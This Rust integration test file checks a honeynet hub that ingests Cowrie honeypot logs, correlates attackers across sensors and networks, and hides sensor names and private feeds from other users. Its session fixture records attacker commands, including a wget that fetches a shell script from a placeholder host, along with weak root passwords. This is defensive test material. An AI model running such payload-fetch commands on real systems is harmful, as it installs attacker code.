//! Sessions, sensors and the correlation across honeynets through the hub: the four real Cowrie
//! logs in four feeds (one sensor and network each), checked against a second, independent
//! reading of the raw JSON; who may see what (private feeds, sensor names); the session intake.

mod common;

use std::collections::{BTreeMap, BTreeSet};

use apiary_ingest::cowrie::{record::record_parsing, Assembler, ReadOptions};
use apiary_store::Visibility;
use common::*;
use reqwest::Method;
use serde_json::{json, Value};

const DATA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/cowrie");

/// The four real logs, in name order.
fn logs() -> Vec<std::path::PathBuf> {
    let mut v: Vec<_> = std::fs::read_dir(DATA)
        .unwrap_or_else(|e| panic!("{DATA}: {e}"))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    v.sort();
    assert_eq!(v.len(), 4, "{v:?}");
    v
}

/// The sessions of a log as records, read by the product's reader.
fn records(path: &std::path::Path) -> Vec<Value> {
    let mut asm = Assembler::new(ReadOptions::default());
    let mut out = Vec::new();
    let opts = apiary_core::ParseOptions::default();
    asm.read_path(path, &mut |_| {}, &mut |s| {
        out.push(serde_json::to_value(record_parsing(&s, &opts)).unwrap())
    })
    .unwrap();
    asm.finish(&mut |s| out.push(serde_json::to_value(record_parsing(&s, &opts)).unwrap()));
    out
}

/// The attacker sightings of a log as `apiary import cowrie --hub` publishes them (depth tags,
/// sensor, session times), read by the product's reader.
fn attacker_items(path: &std::path::Path) -> Vec<Value> {
    use apiary_ingest::cowrie::derive::{reports, DeriveOptions};
    let mut asm = Assembler::new(ReadOptions::default());
    let mut sessions = Vec::new();
    asm.read_path(path, &mut |_| {}, &mut |s| sessions.push(s))
        .unwrap();
    asm.finish(&mut |s| sessions.push(s));
    let fmt = |t: chrono::DateTime<chrono::Utc>| t.to_rfc3339();
    sessions
        .iter()
        .flat_map(|s| reports(s, &DeriveOptions::default()).reports)
        .filter(|r| r.indicator.itype.is_address())
        .map(|r| {
            json!({
                "indicator": r.indicator.value, "tags": r.tags, "sensor": r.sensor,
                "firsttime": r.observed_at.map(fmt), "lasttime": r.observed_until.map(fmt),
                "idempotency_key": r.idempotency_key,
            })
        })
        .collect()
}

/// The second reading: straight from the raw JSON lines, no product code. Per file: the sensor
/// names, and per attacker address the distinct session ids and the earliest timestamp.
struct Raw {
    sensors: BTreeSet<String>,
    attackers: BTreeMap<String, (BTreeSet<String>, String)>,
}

fn raw(path: &std::path::Path) -> Raw {
    let text = std::fs::read(path).unwrap();
    let mut r = Raw {
        sensors: BTreeSet::new(),
        attackers: BTreeMap::new(),
    };
    let mut session_ip: BTreeMap<String, String> = BTreeMap::new();
    let mut events: Vec<Value> = Vec::new();
    for line in text.split(|b| *b == b'\n') {
        let Ok(v) = serde_json::from_slice::<Value>(line) else {
            continue;
        };
        if let Some(s) = v["sensor"].as_str() {
            r.sensors.insert(s.to_owned());
        }
        if let (Some(sid), Some(ip)) = (v["session"].as_str(), v["src_ip"].as_str()) {
            session_ip
                .entry(sid.to_owned())
                .or_insert_with(|| ip.to_owned());
        }
        events.push(v);
    }
    for v in &events {
        let Some(sid) = v["session"].as_str() else {
            continue;
        };
        let Some(ip) = session_ip.get(sid) else {
            continue;
        };
        let e = r
            .attackers
            .entry(ip.clone())
            .or_insert_with(|| (BTreeSet::new(), "9999".into()));
        e.0.insert(sid.to_owned());
        if let Some(t) = v["timestamp"].as_str() {
            if t < e.1.as_str() {
                e.1 = t.to_owned();
            }
        }
    }
    r
}

async fn post(hub: &Hub, path: &str, token: Option<&str>, body: &Value) -> (u16, Value) {
    json(
        hub.req(Method::POST, path, token)
            .json(body)
            .send()
            .await
            .unwrap(),
    )
    .await
}

async fn get(hub: &Hub, path: &str, token: Option<&str>) -> (u16, Value) {
    json(hub.req(Method::GET, path, token).send().await.unwrap()).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn four_real_logs_in_four_feeds_share_the_attackers_two_sensors_saw() {
    let hub = Hub::start().await;
    let owners = ["alice", "bob", "carol", "dave"];
    let mut tokens = Vec::new();
    let mut raws = Vec::new();
    for (i, (path, owner)) in logs().iter().zip(owners).enumerate() {
        let token = hub.user(owner, "read,write").await;
        hub.feed(owner, "pot", Visibility::Public).await;
        let r = raw(path);
        assert_eq!(r.sensors.len(), 1, "{}: one sensor per log", path.display());
        // Each sensor in its own network (documentation ASNs, one per feed).
        let sensor = r.sensors.iter().next().unwrap();
        let (st, body) = post(
            &hub,
            &format!("/api/v1/feeds/{owner}/pot/sensors"),
            Some(&token),
            &json!({"name": sensor, "asn": 64500 + i}),
        )
        .await;
        assert_eq!(st, 201, "{body}");
        // The sessions, through the hub's route, in two halves (a batch boundary).
        let recs = records(path);
        let (a, b) = recs.split_at(recs.len() / 2);
        let mut stored = 0;
        for half in [a, b] {
            let (st, body) = post(
                &hub,
                &format!("/api/v1/feeds/{owner}/pot/sessions"),
                Some(&token),
                &json!(half),
            )
            .await;
            assert_eq!(st, 201, "{body}");
            assert_eq!(body["rejected"], json!([]), "{body}");
            stored += body["stored"].as_u64().unwrap();
        }
        let distinct: BTreeSet<&String> = r.attackers.values().flat_map(|(s, _)| s).collect();
        assert_eq!(
            stored as usize,
            distinct.len(),
            "{}: one session stored per session id with an attacker",
            path.display()
        );
        // Again: nothing new.
        let (st, body) = post(
            &hub,
            &format!("/api/v1/feeds/{owner}/pot/sessions"),
            Some(&token),
            &json!(recs),
        )
        .await;
        assert_eq!(
            (st, body["stored"].as_u64(), body["duplicates"].as_u64()),
            (200, Some(0), Some(recs.len() as u64)),
            "{body}"
        );
        // And the attacker sightings, as the import sends them with the sessions.
        for chunk in attacker_items(path).chunks(500) {
            let (st, body) = post(
                &hub,
                &format!("/api/v1/feeds/{owner}/pot/indicators"),
                Some(&token),
                &json!(chunk),
            )
            .await;
            assert_eq!(st, 201, "{body}");
        }
        tokens.push(token);
        raws.push(r);
    }

    // The expected shared set, from the raw JSON: addresses in two files or more.
    let mut files_of: BTreeMap<&str, BTreeSet<usize>> = BTreeMap::new();
    for (i, r) in raws.iter().enumerate() {
        for ip in r.attackers.keys() {
            files_of.entry(ip).or_default().insert(i);
        }
    }
    let expected: BTreeMap<&str, &BTreeSet<usize>> = files_of
        .iter()
        .filter(|(_, f)| f.len() >= 2)
        .map(|(ip, f)| (*ip, f))
        .collect();
    assert!(!expected.is_empty(), "the real logs share attackers");

    // Anonymous: the shared attackers, counts only.
    let (st, body) = get(&hub, "/api/v1/attackers?min_networks=2&limit=1000", None).await;
    assert_eq!(st, 200, "{body}");
    let got: BTreeMap<String, Value> = body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| (x["attacker"].as_str().unwrap().to_owned(), x.clone()))
        .collect();
    assert_eq!(
        got.keys().map(String::as_str).collect::<Vec<_>>(),
        expected.keys().copied().collect::<Vec<_>>()
    );
    for (ip, files) in &expected {
        let x = &got[*ip];
        assert_eq!(x["sensors"], json!(files.len()), "{x}");
        assert_eq!(x["networks"], json!(files.len()), "{x}");
        let sessions: usize = files.iter().map(|&i| raws[i].attackers[*ip].0.len()).sum();
        assert_eq!(x["sessions"], json!(sessions), "{ip}: {x}");
        assert!(
            x.get("sensor_names").is_none(),
            "sensor names are secrets: {x}"
        );
    }

    // One shared attacker's timeline, as anyone sees it and as the owner of one of its sensors.
    let (ip, files) = expected.iter().next().unwrap();
    let (st, anon) = get(&hub, &format!("/api/v1/attackers/{ip}"), None).await;
    assert_eq!(st, 200, "{anon}");
    let first = files
        .iter()
        .map(|&i| raws[i].attackers[*ip].1.clone())
        .min()
        .unwrap();
    assert_eq!(
        anon["first_seen"].as_str().unwrap().get(..19),
        first.get(..19),
        "{anon}"
    );
    assert_eq!(
        (anon["sensors"].as_u64(), anon["networks"].as_u64()),
        (Some(files.len() as u64), Some(files.len() as u64))
    );
    let timeline = anon["timeline"].as_array().unwrap();
    assert!(
        timeline
            .iter()
            .all(|s| s.get("sensor").is_none() && s.get("honeypot_ip").is_none()),
        "{anon}"
    );
    let starts: Vec<&str> = timeline
        .iter()
        .filter_map(|s| s["start"].as_str())
        .collect();
    let mut sorted = starts.clone();
    sorted.sort();
    assert_eq!(starts, sorted, "the timeline is in time order");
    let owner_i = *files.iter().next().unwrap();
    let (_, mine) = get(
        &hub,
        &format!("/api/v1/attackers/{ip}"),
        Some(&tokens[owner_i]),
    )
    .await;
    let named: Vec<&str> = mine["sensor_names"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["sensor"].as_str().unwrap())
        .collect();
    assert_eq!(
        named,
        vec![raws[owner_i].sensors.iter().next().unwrap().as_str()],
        "only the caller's own sensor is named: {mine}"
    );
    let (_, admin) = get(&hub, &format!("/api/v1/attackers/{ip}"), Some(&hub.admin)).await;
    assert_eq!(
        admin["sensor_names"].as_array().unwrap().len(),
        files.len(),
        "{admin}"
    );
    assert_eq!(
        admin["network_names"].as_array().unwrap().len(),
        files.len(),
        "{admin}"
    );

    // The indicator's explanation, as an admin sees it, names the feeds that saw it, each with
    // its sensor and declared network; anyone else sees counts.
    let mut job = apiary_server::trust::Job::new(apiary_server::trust::TrustOptions::default());
    job.step(&hub.store).await.unwrap();
    let (st, score) = get(&hub, &format!("/api/v1/scores/{ip}"), Some(&hub.admin)).await;
    assert_eq!(st, 200, "{score}");
    let seen: BTreeSet<(String, String, String)> = score["terms"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["term"] == "group")
        .flat_map(|t| t["sources"].as_array().unwrap().clone())
        .map(|s| (s["feed"].as_str().unwrap().to_owned(), s["sensors"].to_string(), s["networks"].to_string()))
        .collect();
    let want: BTreeSet<(String, String, String)> = files
        .iter()
        .map(|&i| {
            (
                format!("{}/pot", owners[i]),
                json!([raws[i].sensors.iter().next().unwrap()]).to_string(),
                json!([format!("AS{}", 64500 + i)]).to_string(),
            )
        })
        .collect();
    assert_eq!(seen, want, "{score}");
    let (st, public) = get(&hub, &format!("/api/v1/scores/{ip}"), None).await;
    assert_eq!(st, 200, "{public}");
    for i in 0..owners.len() {
        let name = raws[i].sensors.iter().next().unwrap();
        assert!(!public.to_string().contains(name.as_str()), "no sensor names for the public: {public}");
    }

    // Campaigns have stable ids: listing twice gives the same, and each resolves.
    let (_, c1) = get(&hub, "/api/v1/campaigns?limit=1000", None).await;
    let (_, c2) = get(&hub, "/api/v1/campaigns?limit=1000", None).await;
    assert_eq!(c1, c2);
    let first = &c1["items"][0];
    assert!(first["attackers"].as_u64().unwrap() >= 2, "{c1}");
    let (st, detail) = get(
        &hub,
        &format!("/api/v1/campaigns/{}", first["id"].as_str().unwrap()),
        None,
    )
    .await;
    assert_eq!(st, 200, "{detail}");
    assert_eq!(
        detail["attacker_list"].as_array().unwrap().len() as u64,
        first["attackers"].as_u64().unwrap()
    );
    assert!(detail.get("sensor_names").is_none());
    let (st, _) = get(&hub, "/api/v1/campaigns/cffffffffffffffff", None).await;
    assert_eq!(st, 404);

    // A payload of the real logs: which attackers, on how many sensors.
    let (_, sessions) = get(&hub, "/api/v1/sessions?limit=1000&feed=dave/pot", None).await;
    let sha = sessions["items"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["downloads"].as_array().cloned().unwrap_or_default())
        .find_map(|d| d["sha256"].as_str().map(str::to_owned))
        .expect("sensor-d has downloads with hashes");
    let (st, p) = get(&hub, &format!("/api/v1/payloads/{sha}"), None).await;
    assert_eq!(st, 200, "{p}");
    assert!(
        p["sensors"].as_u64().unwrap() >= 1 && !p["attackers"].as_array().unwrap().is_empty(),
        "{p}"
    );
}

/// A session record as a reader makes it.
fn session(sensor: &str, id: &str, attacker: &str) -> Value {
    json!({
        "sensor": sensor, "session": id, "attacker": attacker, "attacker_port": 40000,
        "honeypot_ip": "10.0.0.5", "honeypot_port": 2222, "protocol": "ssh",
        "start": "2024-05-01T10:00:00Z", "end": "2024-05-01T10:00:30Z",
        "hassh": "51cba57125523ce4b9db67714a90bf6e",
        "credentials": [{"username": "root", "password": "1234"}, {"username": "root", "password": "admin", "success": true}],
        "login_success": true,
        "commands": ["uname -a", "wget http://198.51.100.80/x.sh"],
        "downloads": [{"url": "http://198.51.100.80/x.sh", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}],
        "depth": "payload", "events": 9, "closed": true
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn private_sessions_stay_private_and_sensor_names_are_the_owners() {
    let hub = Hub::start().await;
    let alice = hub.user("alice", "read,write").await;
    let bob = hub.user("bob", "read,write").await;
    hub.feed("alice", "pots", Visibility::Public).await;
    hub.feed("bob", "secret", Visibility::Private).await;

    let (st, body) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        Some(&alice),
        &json!([session("pot-a", "s1", "192.0.2.10")]),
    )
    .await;
    assert_eq!((st, body["stored"].as_u64()), (201, Some(1)), "{body}");
    let (st, body) = post(
        &hub,
        "/api/v1/feeds/bob/secret/sessions",
        Some(&bob),
        &json!([
            session("pot-b", "s1", "192.0.2.10"),
            session("pot-b", "s2", "192.0.2.99")
        ]),
    )
    .await;
    assert_eq!((st, body["stored"].as_u64()), (201, Some(2)), "{body}");

    // Writing: only the feed's owner (or an admin).
    let (st, _) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        Some(&bob),
        &json!([session("x", "y", "192.0.2.1")]),
    )
    .await;
    assert_eq!(st, 403);
    let (st, _) = post(
        &hub,
        "/api/v1/feeds/bob/secret/sessions",
        Some(&alice),
        &json!([session("x", "y", "192.0.2.1")]),
    )
    .await;
    assert_eq!(st, 404, "a private feed does not exist for others");
    let (st, _) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        None,
        &json!([session("x", "y", "192.0.2.1")]),
    )
    .await;
    assert_eq!(st, 401);
    let (st, _) = post(
        &hub,
        "/api/v1/feeds/bob/secret/sensors",
        Some(&alice),
        &json!({"name": "pot-b", "asn": 64501}),
    )
    .await;
    assert_eq!(st, 404);
    let (st, _) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sensors",
        Some(&bob),
        &json!({"name": "pot-a", "asn": 64501}),
    )
    .await;
    assert_eq!(st, 403);

    // The private feed's sessions are invisible to others...
    for token in [None, Some(alice.as_str())] {
        let (_, s) = get(&hub, "/api/v1/sessions?attacker=192.0.2.10", token).await;
        assert_eq!(s["items"].as_array().unwrap().len(), 1, "{s}");
        assert_eq!(s["items"][0]["feed"], "alice/pots");
        let (st, _) = get(&hub, "/api/v1/attackers/192.0.2.99", token).await;
        assert_eq!(st, 404);
        let (_, a) = get(&hub, "/api/v1/attackers/192.0.2.10", token).await;
        assert_eq!(a["sensors"], 1, "{a}");
        let (_, c) = get(&hub, "/api/v1/campaigns", token).await;
        assert_eq!(c["total"], 0, "one attacker per link key: {c}");
        let (st, _) = get(&hub, "/api/v1/sessions?feed=bob/secret", token).await;
        assert_eq!(st, 404);
    }
    // ...and there for its owner and admins, named.
    for token in [&bob, &hub.admin] {
        let (_, a) = get(&hub, "/api/v1/attackers/192.0.2.10", Some(token)).await;
        assert_eq!(a["sensors"], 2, "{a}");
        let (_, c) = get(&hub, "/api/v1/campaigns", Some(token)).await;
        assert_eq!(
            c["total"], 3,
            "payload, commands, HASSH + credentials; no tty log: {c}"
        );
        let (_, s) = get(&hub, "/api/v1/sessions?sensor=pot-b", Some(token)).await;
        assert_eq!(s["items"].as_array().unwrap().len(), 2, "{s}");
        assert_eq!(s["items"][0]["honeypot_ip"], "10.0.0.5");
    }
    // Sensor names: the owner's. Others filtering by a sensor name find nothing.
    let (_, s) = get(&hub, "/api/v1/sessions?attacker=192.0.2.10", Some(&bob)).await;
    let items = s["items"].as_array().unwrap();
    let own = items.iter().find(|x| x["feed"] == "bob/secret").unwrap();
    let other = items.iter().find(|x| x["feed"] == "alice/pots").unwrap();
    assert_eq!(own["sensor"], "pot-b");
    assert!(
        other.get("sensor").is_none() && other.get("honeypot_ip").is_none(),
        "{other}"
    );
    let (_, s) = get(&hub, "/api/v1/sessions?sensor=pot-a", Some(&bob)).await;
    assert_eq!(s["items"], json!([]));

    // Sensors: registered with a network; readers see counts, the owner names.
    let (st, body) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sensors",
        Some(&alice),
        &json!({"name": "pot-a", "asn": "AS64500", "prefix": "198.51.100.7"}),
    )
    .await;
    assert_eq!(st, 201, "{body}");
    assert_eq!(
        (body["network"].as_str(), body["prefix"].as_str()),
        (Some("AS64500"), Some("198.51.100.7/32"))
    );
    post(
        &hub,
        "/api/v1/feeds/alice/pots/sensors",
        Some(&alice),
        &json!({"name": "pot-z", "prefix": "203.0.113.0/24"}),
    )
    .await;
    let (_, counts) = get(&hub, "/api/v1/feeds/alice/pots/sensors", Some(&bob)).await;
    assert_eq!(
        (
            counts["sensors"].as_u64(),
            counts["declared"].as_u64(),
            counts["networks"].as_u64()
        ),
        (Some(2), Some(2), Some(2))
    );
    assert!(counts.get("items").is_none(), "{counts}");
    let (_, named) = get(&hub, "/api/v1/feeds/alice/pots/sensors", Some(&alice)).await;
    let names: Vec<&str> = named["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["pot-a", "pot-z"]);
    // A sensor seen in sessions but not registered is undeclared.
    post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        Some(&alice),
        &json!([session("pot-new", "s9", "192.0.2.11")]),
    )
    .await;
    let (_, named) = get(&hub, "/api/v1/feeds/alice/pots/sensors", Some(&alice)).await;
    let new = named["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["name"] == "pot-new")
        .unwrap();
    assert_eq!(
        (new["declared"].as_bool(), new["sessions"].as_u64()),
        (Some(false), Some(1)),
        "{named}"
    );
    assert_eq!(named["undeclared"], 1);
    let (st, _) = hub
        .req(
            Method::DELETE,
            "/api/v1/feeds/alice/pots/sensors/pot-z",
            Some(&bob),
        )
        .send()
        .await
        .map(|r| (r.status().as_u16(), ()))
        .unwrap();
    assert_eq!(st, 403);
    let (st, _) = json(
        hub.req(
            Method::DELETE,
            "/api/v1/feeds/alice/pots/sensors/pot-z",
            Some(&alice),
        )
        .send()
        .await
        .unwrap(),
    )
    .await;
    assert_eq!(st, 200);
    let (st, body) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sensors",
        Some(&alice),
        &json!({"name": "p", "asn": "ASX"}),
    )
    .await;
    assert_eq!((st, error_code(&body).as_str()), (422, "invalid_asn"));
    let (st, body) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sensors",
        Some(&alice),
        &json!({"name": "p", "prefix": "example.com"}),
    )
    .await;
    assert_eq!((st, error_code(&body).as_str()), (422, "invalid_prefix"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_sessions_are_listed_and_the_good_ones_kept() {
    let hub = Hub::start().await;
    let alice = hub.user("alice", "read,write").await;
    hub.feed("alice", "pots", Visibility::Public).await;
    let mut bad_depth = session("pot", "s2", "192.0.2.2");
    bad_depth["depth"] = json!("deepest");
    let mut bad_ip = session("pot", "s3", "192.0.2.3");
    bad_ip["attacker"] = json!("not-an-address.example");
    let mut normalised = session("pot", "s4", "2001:DB8::1");
    normalised["ttylog_sha256"] =
        json!("9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08");
    let body = json!([session("pot", "s1", "192.0.2.1"), bad_depth, bad_ip, {"sensor": "pot"}, 42, normalised]);
    let (st, reply) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        Some(&alice),
        &body,
    )
    .await;
    assert_eq!(st, 201, "{reply}");
    assert_eq!(reply["stored"], 2);
    let rejected: Vec<u64> = reply["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["index"].as_u64().unwrap())
        .collect();
    assert_eq!(rejected, [1, 2, 3, 4], "{reply}");
    assert!(
        reply["rejected"][0]["message"]
            .as_str()
            .unwrap()
            .contains("depth"),
        "{reply}"
    );
    let (_, s) = get(&hub, "/api/v1/sessions?attacker=2001:db8::1", None).await;
    assert_eq!(s["items"][0]["attacker"], "2001:db8::1");
    // JSON lines, with a broken line in the middle.
    let lines = format!(
        "{}\n{{broken\n{}\n",
        session("pot", "s5", "192.0.2.5"),
        session("pot", "s6", "192.0.2.6")
    );
    let r = hub
        .req(
            Method::POST,
            "/api/v1/feeds/alice/pots/sessions",
            Some(&alice),
        )
        .header("Content-Type", "application/x-ndjson")
        .body(lines)
        .send()
        .await
        .unwrap();
    let (st, reply) = json(r).await;
    assert_eq!((st, reply["stored"].as_u64()), (201, Some(2)), "{reply}");
    assert_eq!(reply["rejected"][0]["line"], 2);
    // Every one refused: 422. Nothing at all: 422.
    let (st, _) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        Some(&alice),
        &json!([{"sensor": "x"}]),
    )
    .await;
    assert_eq!(st, 422);
    let (st, body) = post(
        &hub,
        "/api/v1/feeds/alice/pots/sessions",
        Some(&alice),
        &json!([]),
    )
    .await;
    assert_eq!((st, error_code(&body).as_str()), (422, "empty"));
    // Filters that are not what they say.
    for q in [
        "/api/v1/sessions?attacker=example.com",
        "/api/v1/payloads/xyz",
        "/api/v1/campaigns?kind=nope",
        "/api/v1/sessions?limit=0",
    ] {
        let (st, body) = get(&hub, q, None).await;
        assert_eq!(st, 422, "{q}: {body}");
        error_code(&body);
    }
}

/// One real log imported into two feeds of one owner is one sensor's sessions, counted once:
/// the attacker's profile, the attackers list and the campaigns are what one import shows.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_log_in_two_feeds_counts_each_session_once() {
    let hub = Hub::start().await;
    let token = hub.user("alice", "read,write").await;
    let path = logs().into_iter().find(|p| p.to_string_lossy().contains("sensor-d")).expect("the sensor-d log");
    let r = raw(&path);
    let recs = records(&path);
    let import = |feed: &'static str| {
        let (hub, token, recs) = (&hub, &token, &recs);
        async move {
            hub.feed("alice", feed, Visibility::Public).await;
            for chunk in recs.chunks(2000) {
                let (st, body) = post(hub, &format!("/api/v1/feeds/alice/{feed}/sessions"), Some(token), &json!(chunk)).await;
                assert_eq!(st, 201, "{body}");
            }
        }
    };
    let views = |who: &'static str| {
        let hub = &hub;
        let token = if who == "alice" { Some(token.as_str()) } else { None };
        async move {
            let mut out = Vec::new();
            for path in ["/api/v1/attackers?min_sensors=1&limit=1000", "/api/v1/campaigns?limit=1000", "/api/v1/attackers/159.223.155.110"] {
                let (st, mut body) = get(hub, path, token).await;
                assert_eq!(st, 200, "{path}: {body}");
                // Which feeds hold the sessions is the one thing a second import changes.
                body.as_object_mut().unwrap().remove("feeds");
                out.push(body);
            }
            out
        }
    };
    import("a").await;
    let once = (views("alice").await, views("anyone").await);
    import("b").await;
    let twice = (views("alice").await, views("anyone").await);

    let profile = &twice.0[2];
    let want = r.attackers["159.223.155.110"].0.len();
    assert_eq!(profile["sessions"], json!(want), "{profile}");
    assert_eq!((profile["sensors"].as_u64(), profile["sensor_names"].as_array().map(Vec::len)), (Some(1), Some(1)), "{profile}");
    let ids: Vec<&str> = profile["timeline"].as_array().unwrap().iter().map(|s| s["session"].as_str().unwrap()).collect();
    assert_eq!((ids.len(), ids.iter().collect::<BTreeSet<_>>().len()), (want, want), "each session once in the timeline: {ids:?}");
    let campaigns = twice.0[1]["items"].as_array().unwrap();
    assert!(!campaigns.is_empty(), "the log has attackers sharing keys");
    for c in campaigns {
        assert_eq!(c["sensors"], 1, "{c}");
    }
    assert_eq!(twice.0, once.0, "the owner sees what one import showed");
    assert_eq!(twice.1, once.1, "anyone sees what one import showed");
    let (_, both) = get(&hub, "/api/v1/attackers/159.223.155.110", Some(&token)).await;
    assert_eq!(both["feeds"], json!(["alice/a", "alice/b"]), "both feeds hold its sessions");
}
